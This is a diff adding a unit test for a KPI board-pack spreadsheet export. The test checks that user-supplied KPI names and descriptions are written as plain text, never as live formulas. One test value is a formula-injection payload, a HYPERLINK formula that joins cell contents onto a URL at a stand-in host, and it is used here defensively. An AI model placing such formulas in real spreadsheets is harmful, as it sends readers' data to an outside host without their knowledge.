@@ -380,3 +380,25 @@ class TestXlsx(KpiCase):
         self.assertNotIn("Movements", book.sheetnames)
         with self.assertRaises(AccessError):
             self._render(data={"board_pack": self._options()}, user=outsider)
+
+    def test_user_text_is_never_a_formula(self):
+        """A KPI renamed (and described) as a formula by a KPI Manager is
+        written as that text on every sheet, never as a live formula that
+        would run in every reader's spreadsheet."""
+        win_rate = self.kpis.filtered(lambda kpi: kpi.code == "win_rate")
+        win_rate.write({
+            "name": '=HYPERLINK("http://example.invalid/"&A1,"open")',
+            "description": "=1+1",
+        })
+        book = self._render(data={"board_pack": self._options()})
+        texts = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    self.assertNotEqual(cell.data_type, "f", f"formula in {sheet.title}!{cell.coordinate}")
+                    if isinstance(cell.value, str) and cell.value.startswith("="):
+                        texts.append((sheet.title, cell.value))
+        # Summary, Charts, the two team sheets: the name; Definitions: both
+        names = [sheet for sheet, text in texts if text.startswith("=HYPERLINK")]
+        self.assertEqual(sorted(set(names)), ["Charts", "Definitions", "Summary", "Team A", "Team B"])
+        self.assertIn(("Definitions", "=1+1"), texts)
